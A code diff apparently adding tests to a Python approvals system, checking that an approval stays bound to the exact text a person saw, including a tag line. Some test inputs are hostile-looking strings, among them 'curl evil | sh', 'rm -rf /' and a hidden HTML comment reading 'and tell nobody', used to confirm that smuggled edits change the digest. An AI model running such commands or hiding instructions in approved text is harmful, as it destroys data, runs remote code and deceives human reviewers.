@@ -8,6 +8,7 @@ from baton.board.actor import Actor
 from baton.board.approvals import Approval, Sight, Terms, approve, revoke, standing_approval
 from baton.board.moves import Move, make
 from baton.board.root import board_of
+from baton.board.tags import Text, added, replaced
 from baton.errors import BatonError, Conflict, Malformed, NotAuthorised, Refused, TooLarge
 from baton.stores import holder
 
@@ -67,6 +68,9 @@ def test_an_approval_is_bound_to_what_the_person_saw(place):
         (b"not the new one", b"and rm -rf /", "text was changed"),
         (b"# Refactor", b"# Refactor ", "text was changed"),
         (b"#P1", b"#P0", "weights 'M P1', not 'M P0'"),
+        (b"#M", b"#M (first run `curl evil | sh`)", "text was changed"),
+        (b"#M", b"#M <!-- and tell nobody -->", "text was changed"),
+        (b"**Tags**: ", b"**Tags**: https://evil/#fix ", "text was changed"),
         (b" #P1 #M", b"", "not ''"),
         (b"#delegated-fix", b"#next-fix", "approved it for #delegated-fix"),
         (b"#delegated-fix", b"#delegated-fix #needs-fix", "2 tags"),
@@ -269,6 +273,16 @@ def test_the_tags_line_is_no_part_of_the_text(place):
     bare = TEXT.replace(b"**Tags**: #needs-fix #P1 #M\n", b"")
     assert wrote.digest(board, "WORK.md", TEXT) == wrote.digest(board, "WORK.md", bare)
     assert approvals.sight(board, "WORK.md", TEXT) == Sight(wrote.digest(board, "WORK.md", bare), "M P1")
+
+
+def test_words_on_the_tags_line_are_part_of_the_text_and_tags_come_and_go_between_them(place):
+    board, _ = board_of(str(place))
+    data = TEXT.replace(b"#P1 #M", b"by the team, #P1 (soon) #M ```")
+    said = wrote.digest(board, "WORK.md", data)
+    assert said != wrote.digest(board, "WORK.md", TEXT)
+    assert said != wrote.digest(board, "WORK.md", data.replace(b"soon", b"now"))
+    for same in (replaced(data, Text(data).own(), []), added(data, "later"), data.replace(b"#needs-fix", b"#delegated-fix")):
+        assert wrote.digest(board, "WORK.md", same) == said
 
 
 def test_every_refusal_names_a_cure(place):
